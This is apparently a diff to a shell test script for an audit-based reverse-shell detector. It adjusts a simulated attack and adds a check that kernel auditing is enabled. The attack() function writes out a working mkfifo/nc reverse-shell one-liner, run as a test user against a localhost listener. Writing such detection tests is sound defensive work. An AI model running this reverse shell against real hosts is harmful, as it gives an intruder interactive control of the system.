@@ -52,7 +52,7 @@ load_by_hand() { by_hand_is_loaded || auditctl $BY_HAND; }
 next_port() { port=$((port + 1)); }
 
 attack() {
-    { sleep 1; echo 'id -un'; sleep 4; } | timeout 30 nc -l 127.0.0.1 $port >/run/heard &
+    { sleep 1; echo 'id -un'; sleep 2; } | timeout 30 nc -N -l 127.0.0.1 $port >/run/heard &
     await 5 eval "ss -ltn | grep -q :$port" || return
     runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 20 nc 127.0.0.1 $port >f" >/dev/null 2>&1
     wait $!
@@ -84,6 +84,7 @@ all_is_well() {  # AFTER-WHAT
     next_port
     check "$1: an attack is told" attack_is_told
     check "$1: and told once" is_told_once
+    check "$1: audit is on" equal "$(auditctl -s | grep '^enabled')" 'enabled 1'
     check "$1: the kernel lost no record" equal "$(auditctl -s | grep '^lost')" 'lost 0'
     check "$1: no alert waits" test ! -e /var/lib/pipehound/spool.jsonl
 }
